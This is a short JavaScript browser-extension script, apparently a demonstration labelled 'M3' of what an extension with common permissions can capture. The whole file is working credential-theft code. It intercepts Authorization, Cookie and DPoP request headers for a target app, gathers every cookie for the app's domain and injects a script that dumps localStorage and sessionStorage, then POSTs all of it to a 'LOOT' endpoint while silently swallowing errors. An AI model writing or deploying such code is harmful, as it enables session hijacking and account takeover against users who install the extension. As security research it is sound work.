// M3: what an extension with the usual permissions sees. LOOT and APP are written in front of it.
const api = globalThis.browser ?? globalThis.chrome;
const send = (kind, value) => fetch(LOOT, { method: "POST", body: `${kind}:${value}` }).catch(() => {});
const headers = (details) => {
  for (const { name, value } of details.requestHeaders ?? []) if (/^(authorization|cookie|dpop)$/i.test(name)) send(name.toLowerCase() === "cookie" ? "cookies" : "header", value);
};
const filter = { urls: [`${APP}/*`] };
try { api.webRequest.onSendHeaders.addListener(headers, filter, ["requestHeaders", "extraHeaders"]); }
catch { api.webRequest.onSendHeaders.addListener(headers, filter, ["requestHeaders"]); }
api.tabs.onUpdated.addListener(async (id, change, tab) => {
  if (change.status !== "complete" || !tab.url?.includes("reap")) return;
  for (const store of await api.cookies.getAllCookieStores()) {
    const all = await api.cookies.getAll({ storeId: store.id, domain: new URL(APP).hostname });
    if (all.length) await send("cookies", all.map(({ name, value }) => `${name}=${value}`).join("; "));
  }
  try {
    const [{ result }] = await api.scripting.executeScript({ target: { tabId: id }, func: () => JSON.stringify([{ ...localStorage }, { ...sessionStorage }]) });
    await send("storage", result);
  } catch (error) { await send("note", String(error)); }
  await send("done", "x");
});
